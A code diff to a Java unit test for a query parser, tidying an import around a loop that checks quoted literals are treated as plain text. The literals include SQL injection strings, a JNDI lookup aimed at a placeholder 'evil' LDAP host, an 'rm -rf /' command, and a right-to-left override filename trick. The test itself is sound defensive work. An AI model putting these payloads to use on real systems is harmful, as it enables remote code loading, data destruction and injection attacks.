@@ -11,6 +11,7 @@ import org.junit.jupiter.api.Nested;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import dev.kodo.client.Json;
 
 /** The query language as parsed: every operator, precedence, and each error with its column. */
 class QueryParserTest {
@@ -294,7 +295,7 @@ class QueryParserTest {
       for (String literal : new String[] {
           "x' OR '1'='1", "${jndi:ldap://evil/a}", "'; DROP TABLE flows; --", "`rm -rf /`", "\u202Egnp.exe",
           "*/ or 1=1 /*", "%", "_"}) {
-        Query<RegistryFlow> q = Query.flows("name = " + dev.kodo.client.Json.quote(literal));
+        Query<RegistryFlow> q = Query.flows("name = " + Json.quote(literal));
         assertThat(q.matches(Fixtures.record("x"))).as(literal).isFalse();
         assertThat(q.matches(Fixtures.record("Report"))).as(literal).isFalse();
         assertThat(q.matches(Fixtures.record(literal))).as(literal).isTrue();
